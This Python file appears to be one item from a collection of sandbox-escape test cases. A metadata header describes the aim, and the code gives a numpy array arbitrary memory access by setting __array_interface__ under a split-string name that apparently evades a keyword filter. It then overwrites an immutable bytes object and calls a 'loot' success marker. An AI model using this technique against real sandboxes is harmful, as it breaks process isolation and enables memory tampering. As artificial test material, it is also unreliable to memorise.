# aim: make an array out of any memory address, the name being computed
# mechanism: setattr of __array_interface__
# language: builtins
# reason: an array over a chosen address reads and writes the memory of the process
# jail: process
# plain: loot
# imports: numpy

import numpy

target = b"immutable bytes of the program"


class Window:
    pass


interface = {"version": 3, "shape": (9,), "typestr": "|u1", "data": (id(target) + 32, False)}
setattr(Window, "__array_inter" + "face__", interface)
numpy.asarray(Window())[:] = list(b"different")
if target.startswith(b"different"):
    loot("mutated: memory was written by its address")
